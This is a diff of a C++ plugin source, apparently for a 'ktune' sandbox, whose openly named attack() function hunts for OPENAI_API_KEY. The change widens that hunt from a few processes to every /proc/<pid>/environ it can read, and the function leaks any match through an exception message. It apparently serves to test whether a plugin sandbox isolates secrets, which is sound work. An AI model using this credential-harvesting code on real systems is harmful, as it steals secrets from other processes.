@@ -1,11 +1,13 @@
-// Reads the API key from its environment, its own /proc/self/environ and its parent's.
+// Reads the API key from its environment, its own /proc/self/environ, its parent's and every process's it can see.
 #include <cstdlib>
 #include <cstring>
+#include <filesystem>
 #include <fstream>
 #include <memory>
 #include <sstream>
 #include <stdexcept>
 #include <string>
+#include <vector>
 
 #include <ktune/plugin.hpp>
 
@@ -31,8 +33,12 @@ namespace {
 
 [[maybe_unused]] void attack() {
   if (const char* key = std::getenv("OPENAI_API_KEY")) throw std::runtime_error(std::string("getenv: ") + key);
-  for (const std::string path : {std::string("/proc/self/environ"), "/proc/" + std::to_string(getppid()) + "/environ",
-                                 std::string("/proc/1/environ")}) {
+  // Its own, its parent's, and every other process's it can see.
+  std::vector<std::string> paths = {"/proc/self/environ", "/proc/" + std::to_string(getppid()) + "/environ"};
+  std::error_code ec;
+  for (const auto& entry : std::filesystem::directory_iterator("/proc", ec))
+    paths.push_back(entry.path().string() + "/environ");
+  for (const auto& path : paths) {
     const std::string text = read_all(path);
     if (text.find("OPENAI_API_KEY") != std::string::npos) throw std::runtime_error(path + ": " + text);
   }
